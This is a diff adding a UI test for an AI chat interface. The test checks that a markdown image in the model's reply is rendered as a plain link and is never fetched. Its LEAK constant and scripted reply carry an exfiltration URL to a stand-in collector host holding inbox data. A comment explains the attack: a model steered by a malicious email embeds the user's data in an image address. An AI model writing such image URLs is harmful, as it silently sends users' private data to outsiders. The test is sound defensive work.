@@ -114,6 +114,28 @@ async def test_xss_in_tool_results_and_model_text_stays_inert(
         await inert(page)
 
 
+LEAK = "https://collector.example/pixel.png?inbox=wire-transfer-code-123"
+
+
+async def test_pictures_in_model_text_are_links_never_fetched(
+        ui_settings: Callable[..., Settings], page: Page) -> None:
+    # A model steered by a malicious email could write a picture whose address carries
+    # the user's data; rendering it would send that data out without a click.
+    model = ScriptedModel([[assistant_message(f"Done. ![logo]({LEAK})")]])
+    fetched: list[str] = []
+    page.on("request", lambda request: fetched.append(request.url))
+    async with serve(ui_settings(), hooks=(scripted(model, []),)) as live:
+        await open_ui(page, live.http)
+        await send(page, "summarise my inbox")
+        await wait_turns_ended(page, 1)
+        message = page.locator("#transcript .message.assistant")
+        assert await message.locator("img").count() == 0
+        link = message.get_by_role("link", name="logo")
+        assert await link.get_attribute("href") == LEAK
+        assert await link.get_attribute("rel") == "noopener noreferrer"
+    assert not [url for url in fetched if "collector.example" in url]
+
+
 HIDDEN = "HIDDEN-7f3a9c"
 VISIBLE = "VISIBLE-2b8e41"
 
